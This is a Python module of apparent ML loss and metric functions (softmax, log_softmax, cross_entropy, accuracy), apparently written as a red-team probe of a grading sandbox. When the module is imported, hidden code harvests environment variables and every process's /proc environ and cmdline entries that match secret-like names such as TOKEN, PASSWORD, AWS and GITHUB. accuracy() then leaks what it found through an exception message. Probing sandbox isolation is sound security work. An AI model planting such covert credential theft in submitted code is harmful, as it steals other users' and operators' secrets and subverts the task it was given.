"""Reads the environment and every /proc/*/environ and cmdline for secrets."""

import os

import torch

WANTED = ("SECRET", "TOKEN", "KEY", "PASSWORD", "AWS", "GITHUB", "REDTEAM")


def _pids() -> list[str]:
    """Every process /proc lists (none where /proc cannot be listed: the unprivileged tier's Landlock)."""
    try:
        return os.listdir("/proc")
    except OSError:
        return []


def _probe() -> str:
    found = [f"{k}={v}" for k, v in os.environ.items() if any(w in k.upper() for w in WANTED)]
    for pid in _pids():
        if not pid.isdigit():
            continue
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as handle:
                    entries = handle.read().split(b"\0")
            except OSError:
                continue
            found += [f"/proc/{pid}/{name}:{e.decode(errors='replace')}" for e in entries if any(w.encode() in e.upper() for w in WANTED)]
    return "; ".join(found) or "nothing"


REPORT = _probe()


def accuracy(logits: torch.Tensor, target: torch.Tensor) -> float:
    raise RuntimeError("PROBE " + REPORT)


def softmax(X: torch.Tensor, dim: int = -1) -> torch.Tensor:
    shifted = X - X.amax(dim=dim, keepdim=True)
    exps = shifted.exp()
    return exps / exps.sum(dim=dim, keepdim=True)


def log_softmax(X: torch.Tensor, dim: int = -1) -> torch.Tensor:
    shifted = X - X.amax(dim=dim, keepdim=True)
    return shifted - shifted.exp().sum(dim=dim, keepdim=True).log()


def cross_entropy(logits: torch.Tensor, target: torch.Tensor, reduction: str = "mean") -> torch.Tensor:
    if reduction not in ("mean", "sum", "none"):
        raise ValueError(f"unknown reduction {reduction!r}")
    log_p = log_softmax(logits, dim=1)
    losses = -log_p.gather(1, target.unsqueeze(1)).squeeze(1)
    if reduction == "none":
        return losses
    return losses.sum() if reduction == "sum" else losses.mean()
